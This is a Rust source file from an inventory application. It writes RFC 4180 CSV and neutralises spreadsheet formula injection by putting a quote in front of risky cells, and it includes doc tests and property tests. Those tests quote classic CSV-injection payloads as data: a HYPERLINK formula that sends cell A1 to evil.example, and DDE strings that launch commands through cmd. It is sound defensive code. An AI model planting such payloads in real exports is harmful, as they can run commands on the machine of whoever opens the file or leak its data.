//! CSV as RFC 4180 writes it, with every cell made safe to open in a spreadsheet.
//!
//! **Quoting.** Every cell is wrapped in double quotes and every double quote inside it is
//! doubled; records end with CRLF. Commas, quotes, CR and LF inside a cell therefore stay
//! inside it, for any RFC 4180 reader.
//!
//! **Formula neutralisation** (OWASP, "CSV Injection"). A spreadsheet runs a cell that starts
//! with `=`, `+`, `-` or `@` as a formula, and OWASP adds tab (0x09) and carriage return
//! (0x0D), which some spreadsheets skip before looking for those. Such a cell gets a single
//! quote (`'`) in front, which spreadsheets show as text and never evaluate. This writer also
//! neutralises a leading line feed (0x0A), for the same reason as CR, and the full-width forms
//! `＝ ＋ － ＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some spreadsheets in East Asian locales
//! read as their ASCII counterparts. A plain number (`-12`, `-3.50`) is left alone: it cannot
//! be a formula, and a quote would turn every negative quantity into text.
//!
//! The quote changes what the cell holds: a reader gets `'=1+1` back, not `=1+1`. That is the
//! point (the CSV is for people and spreadsheets). The JSON export carries the values
//! unchanged.

use std::borrow::Cow;

/// The first characters that make a spreadsheet evaluate a cell.
pub const FORMULA_TRIGGERS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// What goes in front of a cell that would be evaluated.
pub const NEUTRALISING_PREFIX: char = '\'';

/// Whether `cell` is a plain decimal number: an optional `-`, digits, and optionally a point
/// and more digits.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// Whether a spreadsheet could evaluate `cell`: it starts with one of [`FORMULA_TRIGGERS`]
/// and is not a plain number.
///
/// ```
/// use inventario_core::domain::privacy::csv::needs_neutralising;
/// assert!(needs_neutralising("=HYPERLINK(\"http://x\")"));
/// assert!(needs_neutralising("+54 9 11 5555-0000"));
/// assert!(needs_neutralising("\t=1+1"));
/// assert!(!needs_neutralising("-12.50"));
/// assert!(!needs_neutralising("Ana"));
/// ```
pub fn needs_neutralising(cell: &str) -> bool {
    cell.starts_with(FORMULA_TRIGGERS) && !is_plain_number(cell)
}

/// `cell` with [`NEUTRALISING_PREFIX`] in front when a spreadsheet could evaluate it.
///
/// ```
/// use inventario_core::domain::privacy::csv::neutralise;
/// assert_eq!(neutralise("@SUM(A1:A9)"), "'@SUM(A1:A9)");
/// assert_eq!(neutralise("Peña"), "Peña");
/// ```
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_neutralising(cell) {
        let mut out = String::with_capacity(cell.len() + 1);
        out.push(NEUTRALISING_PREFIX);
        out.push_str(cell);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(cell)
    }
}

/// Appends one record to `out`: each cell neutralised, quoted, the quotes inside doubled,
/// separated by commas and ended with CRLF.
///
/// ```
/// use inventario_core::domain::privacy::csv::write_record;
/// let mut out = String::new();
/// write_record(&mut out, &["name", "say \"hi\", then =1+1"]);
/// write_record(&mut out, &["=cmd|' /C calc'!A0", "-5"]);
/// assert_eq!(out, "\"name\",\"say \"\"hi\"\", then =1+1\"\r\n\"'=cmd|' /C calc'!A0\",\"-5\"\r\n");
/// ```
pub fn write_record<S: AsRef<str>>(out: &mut String, cells: &[S]) {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push('"');
        for c in neutralise(cell.as_ref()).chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// An RFC 4180 reader written from the RFC, independent of the writer: quoted and unquoted
    /// fields, doubled quotes, CRLF (or LF) record ends.
    fn parse(text: &str) -> Vec<Vec<String>> {
        let mut records = Vec::new();
        let mut record = Vec::new();
        let mut field = String::new();
        let mut chars = text.chars().peekable();
        let mut quoted = false;
        let mut at_field_start = true;
        while let Some(c) = chars.next() {
            if quoted {
                if c == '"' {
                    if chars.peek() == Some(&'"') {
                        chars.next();
                        field.push('"');
                    } else {
                        quoted = false;
                    }
                } else {
                    field.push(c);
                }
                continue;
            }
            match c {
                '"' if at_field_start => {
                    quoted = true;
                    at_field_start = false;
                }
                ',' => {
                    record.push(std::mem::take(&mut field));
                    at_field_start = true;
                }
                '\r' if chars.peek() == Some(&'\n') => {}
                '\n' => {
                    record.push(std::mem::take(&mut field));
                    records.push(std::mem::take(&mut record));
                    at_field_start = true;
                }
                other => {
                    field.push(other);
                    at_field_start = false;
                }
            }
        }
        assert!(!quoted, "unterminated quoted field");
        if !at_field_start || !field.is_empty() || !record.is_empty() {
            record.push(field);
            records.push(record);
        }
        records
    }

    #[test]
    fn every_trigger_is_neutralised() {
        for trigger in FORMULA_TRIGGERS {
            let cell = format!("{trigger}1+2");
            assert_eq!(neutralise(&cell), format!("'{cell}"), "{trigger:?}");
        }
        for safe in ["", "Ana", " =1", "'=1", "1-2", "12", "0.5", "-0", "(=1)"] {
            assert_eq!(neutralise(safe), safe);
        }
        // Not plain numbers, so neutralised.
        for cell in ["-", "-.5", "-1.", "-1e5", "-1,5", "+1", "-1-1", "--1"] {
            assert!(needs_neutralising(cell), "{cell}");
        }
    }

    #[test]
    fn the_classic_payloads_are_inert() {
        let mut out = String::new();
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        write_record(&mut out, &payloads);
        let parsed = parse(&out);
        assert_eq!(parsed.len(), 1);
        for (cell, payload) in parsed[0].iter().zip(payloads) {
            assert_eq!(cell, &format!("'{payload}"));
        }
    }

    proptest! {
        #[test]
        fn neutralised_csv_round_trips_to_the_text_with_the_prefix(
            rows in prop::collection::vec(
                prop::collection::vec(
                    prop_oneof![
                        any::<String>(),
                        "[=+@\t\r\n\"-][=+@\t\r\n\",a-z0-9 .-]{0,12}",
                        "-?[0-9]{1,5}(\\.[0-9]{1,3})?",
                    ],
                    1..6,
                ),
                1..6,
            ),
        ) {
            let mut out = String::new();
            for row in &rows {
                write_record(&mut out, row);
            }
            let parsed = parse(&out);
            prop_assert_eq!(parsed.len(), rows.len());
            for (got, row) in parsed.iter().zip(&rows) {
                let expected: Vec<String> = row.iter().map(|c| neutralise(c).into_owned()).collect();
                prop_assert_eq!(got, &expected);
                for cell in got {
                    // Nothing a spreadsheet would evaluate comes out.
                    prop_assert!(!needs_neutralising(cell));
                }
            }
        }

        #[test]
        fn neutralising_is_idempotent_and_only_ever_prepends(cell in any::<String>()) {
            let once = neutralise(&cell).into_owned();
            prop_assert!(once.ends_with(cell.as_str()));
            prop_assert!(once.len() == cell.len() || once.len() == cell.len() + 1);
            prop_assert_eq!(neutralise(&once).into_owned(), once);
        }
    }
}
